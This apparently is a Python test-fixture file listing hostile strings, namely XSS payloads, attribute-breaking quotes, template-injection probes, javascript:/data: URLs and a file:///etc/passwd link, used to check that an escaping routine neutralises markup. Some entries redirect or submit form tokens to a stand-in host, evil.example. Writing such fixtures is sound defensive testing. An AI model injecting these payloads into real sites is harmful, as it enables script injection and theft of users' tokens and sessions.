"""Texts that try to become markup, with a word each that must be readable afterwards."""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    "<script>alert('ran')</script>",
    "</title></style></textarea><script>alert('ran')</script>",
    "<svg/onload=alert('ran')>",
    "<img src=x onerror=alert('ran')>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    '<a href="java\tscript:alert(1)">link</a>',
    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
    '<meta http-equiv=refresh content="0;url=http://evil.example">',
    "<form action=//evil.example><input name=token></form>",
    "<base href=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<img src="https://tracker.example/p.gif?u=1">',
    "--><script>alert(1)</script><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "<object data='data:text/html,x'></object><embed src=x>",
    "\u202egnp.exe\u202c \u2028\u2029 \x00\x0b end",
    "<link rel=stylesheet href=//evil.example>",
    "]]><script>alert(1)</script><![CDATA[",
    "<details open ontoggle=alert(1)>",
)

HOSTILE_URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "//evil.example/x",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<script>",
    "file:///etc/passwd",
)
